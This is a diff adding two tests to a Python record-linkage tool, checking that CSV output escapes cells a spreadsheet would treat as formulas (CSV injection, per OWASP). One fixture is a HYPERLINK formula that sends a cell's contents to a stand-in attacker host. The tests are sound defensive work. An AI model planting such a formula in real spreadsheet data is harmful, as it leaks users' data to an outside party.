@@ -290,3 +290,38 @@ def test_twins_are_not_merged_even_with_a_loose_threshold():
 
     assert clusters["tw1"] == clusters["tw2"]
     assert clusters["tw3"] != clusters["tw1"]
+
+
+def test_record_ids_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
+    formulas = ['=HYPERLINK("http://attacker.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)"]
+    rows = [(record_id, *HARD_CASES[0][1:]) for record_id in formulas] + [HARD_CASES[4]]
+    source = tmp_path / "in.csv"
+    with source.open("w", newline="", encoding="utf-8") as target:
+        writer = csv.writer(target)
+        writer.writerow(HEADER.split(","))
+        writer.writerows(rows)
+    out = tmp_path / "clusters.csv"
+
+    call_command("link", str(source), out=out)
+
+    with out.open(newline="", encoding="utf-8") as written:
+        cells = [cell for row in csv.reader(written) for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert {f"'{record_id}" for record_id in formulas} <= set(cells)
+    assert "ms1" in cells
+
+
+def test_spreadsheet_cells_are_escaped_per_owasp():
+    from docket.lib.spreadsheet import safe_cell
+
+    assert [safe_cell(c) for c in ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "a=1", "", None]] == [
+        "'=1",
+        "'+1",
+        "'-1",
+        "'@a",
+        "'\t=1",
+        "'\r=1",
+        "a=1",
+        "",
+        "",
+    ]
